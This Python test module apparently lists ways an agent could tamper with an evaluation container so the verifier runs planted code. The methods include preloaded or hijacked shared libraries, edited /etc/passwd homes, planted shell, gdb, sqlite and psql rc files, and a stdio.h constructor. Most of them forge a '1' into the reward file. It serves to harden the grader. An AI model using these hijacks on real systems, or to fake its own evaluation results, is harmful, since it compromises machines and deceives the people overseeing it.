"""Attacks that nobody had reported: whatever any program that a test script may run reads, loads or believes."""

from tests.attacks.attack import (
    BY_MODULE,
    BY_PYTHON,
    FORGE_PY,
    FORGE_SH,
    SHELL,
    Attack,
    append,
    judged_by,
    plant,
    plant_bytes,
    program,
)
from tests.attacks.native import evil_library
from tests.attacks.python_attacks import VERSION

_BACK = frozenset({"verifier_tools_restored"})
_FORGE = f"[ -d /tests ] && {{ {FORGE_SH}; }}"
_LIBRARIES = "/usr/lib/$(uname -m)-linux-gnu"
_EVIL = evil_library()
_IN_FRONT = evil_library("/app/real.so")
_NAMED = evil_library("/app/real.so", soname="libpcre2-8.so.0")
_GCC = ("gcc",)
_HOME = "sed -i 's#:/root:#:/app/home:#' /etc/passwd"
_AL = '[verifier]\nuser = "al"\n'
_BY_GREP = judged_by("grep x /app/answer.txt")
_BY_COMPILER = judged_by(
    "echo '#include <stdio.h>' > /tmp/x.c; echo 'int main(void) { puts(\"x\"); return 0; }' >> /tmp/x.c",
    "gcc -o /tmp/x /tmp/x.c && /tmp/x",
)
_REAL_STDIO = '#include_next <stdio.h>\n__attribute__((constructor)) static void f(void) {\nFILE *r = fopen("/logs/verifier/reward.txt", "w"); if (r) { fputs("1", r); fclose(r); }\n}'

LIBRARIES = (
    Attack(
        "a preloaded library",
        f"{plant_bytes('/app/x.so', _EVIL)}; echo /app/x.so > /etc/ld.so.preload",
        _BY_GREP,
        _BACK,
        needs=_GCC,
    ),
    Attack(
        "a library in front of the image's",
        f"cp -L $(ldd /usr/bin/grep 2>/dev/null | sed -n 's/.*pcre.* => \\([^ ]*\\) .*/\\1/p') /app/real.so 2>/dev/null || "
        f"cp -L {_LIBRARIES}/libpcre2-8.so.0 /app/real.so\n{plant_bytes('/usr/local/lib/libpcre2-8.so.0', _IN_FRONT)}\nldconfig",
        _BY_GREP,
        _BACK,
        needs=_GCC,
    ),
    Attack(
        "a library of another file name",
        f"cp -L {_LIBRARIES}/libpcre2-8.so.0 /app/real.so\n"
        + plant_bytes("/usr/local/lib/libharmless.so", _NAMED)
        + "\nldconfig",
        _BY_GREP,
        _BACK,
        restored=("/usr/local/lib/libharmless.so",),
        needs=_GCC,
    ),
    Attack(
        "a library for better processors",
        f"cp -L {_LIBRARIES}/libpcre2-8.so.0 /app/real.so\n"
        + plant_bytes(f"{_LIBRARIES}/glibc-hwcaps/x86-64-v2/libpcre2-8.so.0", _IN_FRONT)
        + "\nldconfig",
        _BY_GREP,
        _BACK,
        needs=_GCC,
    ),
    Attack(
        "a library found by a new list and a new cache",
        f"cp -L {_LIBRARIES}/libpcre2-8.so.0 /app/real.so\n{plant_bytes('/app/evil/libpcre2-8.so.0', _IN_FRONT)}\n"
        "mkdir -p /etc/ld.so.conf.d; echo /app/evil > /etc/ld.so.conf.d/0.conf; echo 'include /etc/ld.so.conf.d/*.conf' > "
        "/etc/ld.so.conf; ldconfig",
        _BY_GREP,
        _BACK,
        needs=_GCC,
    ),
    Attack(
        "another service for names",
        f"{plant_bytes(f'{_LIBRARIES}/libnss_evil.so.2', _EVIL)}\nsed -i 's/^passwd:.*/passwd: evil files/' /etc/nsswitch.conf",
        judged_by("id al", "ls -l /app"),
        _BACK,
        needs=_GCC,
    ),
    Attack(
        "a service for names that the image asks for and has not got",
        f"{plant_bytes(f'{_LIBRARIES}/libnss_systemd.so.2', _EVIL)}\nchown 4242 /app/answer.txt 2>/dev/null || "
        "/usr/bin/python3 -Ic 'import os; os.chown(\"/app/answer.txt\", 4242, 4242)'",
        judged_by("ls -l /app"),
        _BACK,
        needs=_GCC,
    ),
    Attack(
        "settings of openssl",
        f"{plant_bytes('/app/x.so', _EVIL)}\n"
        + plant(
            "/usr/lib/ssl/openssl.cnf",
            "openssl_conf = a\n[a]\nengines = b\n[b]\nx = c\n[c]\ndynamic_path = /app/x.so\ninit = 0",
        ),
        judged_by("openssl version -a; openssl rand 1; python3 -c 'import ssl; ssl.create_default_context()'"),
        _BACK,
        needs=_GCC,
    ),
    Attack(
        "a library of an environment in root's home",
        plant_bytes("/root/conda/lib/libconda.so.1", _EVIL),
        judged_by("python3 -c 'import ctypes; ctypes.CDLL(\"/root/conda/lib/libconda.so.1\")'"),
        _BACK,
        needs=_GCC,
    ),
    Attack(
        "a compiled module beside",
        plant_bytes("/app/json.so", _EVIL),
        BY_MODULE,
        frozenset({"hidden_from_verifier"}),
        needs=_GCC,
    ),
)

HOMES = (
    Attack(
        "another home for root",
        f"{_HOME}\n{plant('/app/home/.bashrc', _FORGE)}",
        judged_by("HOME=$(python3 -c 'import pwd; print(pwd.getpwuid(0).pw_dir)') bash -ic true"),
        _BACK,
    ),
    Attack(
        "another root in front of root",
        f"sed -i '1i x:x:0:0::/app/home:/bin/sh' /etc/passwd\n{plant('/app/home/.bashrc', _FORGE)}",
        judged_by("HOME=$(python3 -c 'import pwd; print(pwd.getpwuid(0).pw_dir)') bash -ic true"),
        _BACK,
    ),
    Attack(
        "a list of accounts behind a link",
        f"cp /etc/passwd /app/list; {_HOME.replace('/etc/passwd', '/app/list')}; ln -sf /app/list /etc/passwd\n"
        + plant("/app/home/.bashrc", _FORGE),
        judged_by("HOME=$(python3 -c 'import pwd; print(pwd.getpwuid(0).pw_dir)') bash -ic true"),
        _BACK,
    ),
    Attack(
        "the home of the verifier's user",
        f"{plant(f'/home/al/.local/lib/{VERSION}/site-packages/x.pth', f'import sys; exec({FORGE_PY!r})')}",
        BY_PYTHON,
        _BACK,
        toml=_AL,
    ),
    Attack(
        "settings of the verifier's user",
        f"{plant('/home/al/.bashrc', _FORGE)}",
        judged_by("bash -ic true"),
        _BACK,
        toml=_AL,
    ),
    Attack(
        "another home for the verifier's user",
        f"sed -i 's#:/home/al:#:/app/home:#' /etc/passwd\n{plant('/app/home/.bashrc', _FORGE)}",
        judged_by("bash -ic true"),
        _BACK,
        toml=_AL,
    ),
    Attack(
        "a login shell of the agent's",
        f"{program('/app/shell')}\nsed -i 's#/root:/bin/sh#/root:/app/shell#' /etc/passwd",
        judged_by('python3 -c \'import pwd, subprocess; subprocess.run([pwd.getpwuid(0).pw_shell, "-c", "true"])\''),
        _BACK,
    ),
)

ELSEWHERE = (
    Attack(
        "another Python of the image's",
        plant(f"/venv/lib/{VERSION}/site-packages/x.pth", f"import sys; exec({FORGE_PY!r})"),
        judged_by("/venv/bin/python3 -c 1"),
        _BACK,
    ),
    Attack(
        "a drop-in of the image's",
        plant("/usr/share/bash.d/second.sh", _FORGE),
        judged_by("for file in /usr/share/bash.d/*.sh; do . $file; done"),
        _BACK,
    ),
    Attack("a setting in the root", plant("/.bashrc", _FORGE), judged_by("bash --rcfile /.bashrc -ic true"), _BACK),
    Attack(
        "a folder of settings in the root",
        plant("/.cargo/config.toml", _FORGE),
        judged_by(". /.cargo/config.toml"),
        _BACK,
    ),
    Attack(
        "settings of a tool of the image's in root's home",
        plant("/root/.cargo/config.toml", _FORGE),
        judged_by(". /root/.cargo/config.toml"),
        _BACK,
    ),
    Attack("a start of services", append("/etc/init.d/first", _FORGE), judged_by("sh /etc/init.d/first"), _BACK),
)

TOOLCHAIN = (
    Attack(
        "specs of gcc",
        "gcc -dumpspecs > /tmp/specs; sed -i 's#^%{v:-V}#&#' /tmp/specs; cp /tmp/specs $(dirname $(gcc "
        "-print-libgcc-file-name))/specs",
        _BY_COMPILER,
        _BACK,
        needs=_GCC,
        place="host",
        proven=False,
    ),
    Attack(
        "a header in front",
        plant("/usr/local/include/stdio.h", _REAL_STDIO),
        _BY_COMPILER,
        _BACK,
        needs=_GCC,
        place="host",
    ),
    Attack(
        "an assembler for the compiler",
        program("$(dirname $(gcc -print-libgcc-file-name))/as"),
        _BY_COMPILER,
        _BACK,
        needs=_GCC,
        place="host",
    ),
    Attack(
        "an assembler for one machine",
        program("/usr/$(uname -m)-linux-gnu/bin/as"),
        _BY_COMPILER,
        _BACK,
        needs=_GCC,
        place="host",
        proven=False,
    ),
    Attack(
        "a plug-in of the linker",
        plant_bytes("/usr/lib/bfd-plugins/x.so", _EVIL),
        judged_by("nm /usr/bin/true; ar t x; gcc -o /tmp/y -x c - <<< 'int main(void){return 0;}'"),
        _BACK,
        needs=_GCC,
        place="host",
    ),
    Attack(
        "a module of node in the root",
        plant(
            "/node_modules/evil/index.js",
            "require('child_process').execSync(`/bin/sh -c \"" + FORGE_SH.replace('"', '\\\\"') + '"`)',
        ),
        judged_by("cd /tests; node -e 'require(\"evil\")'"),
        _BACK,
        needs=("node",),
        place="host",
    ),
    Attack(
        "settings of sqlite",
        plant("/root/.sqliterc", ".shell printf 1 > /logs/verifier/reward.txt"),
        judged_by("sqlite3 :memory: 'select 1' < /dev/null"),
        _BACK,
        needs=("sqlite3",),
        place="host",
    ),
    Attack(
        "settings of gdb",
        plant("/root/.gdbinit", "shell printf 1 > /logs/verifier/reward.txt"),
        judged_by("gdb -batch -ex quit"),
        _BACK,
        needs=("gdb",),
        place="host",
    ),
    Attack(
        "settings of psql",
        plant("/root/.psqlrc", "\\! printf 1 > /logs/verifier/reward.txt"),
        judged_by("psql -c 1"),
        _BACK,
        needs=("psql",),
        place="host",
        proven=False,
    ),
    Attack(
        "settings of wget",
        plant("/root/.wgetrc", "use_askpass=/app/x"),
        judged_by("wget x"),
        _BACK,
        needs=("wget",),
        place="host",
        proven=False,
    ),
    Attack("settings of go", plant("/root/.config/go/env", "CC=/app/x"), SHELL, _BACK, place="host", proven=False),
    Attack(
        "a start of perl", plant("/usr/local/lib/site_perl/strict.pm", "1;"), SHELL, _BACK, place="host", proven=False
    ),
)
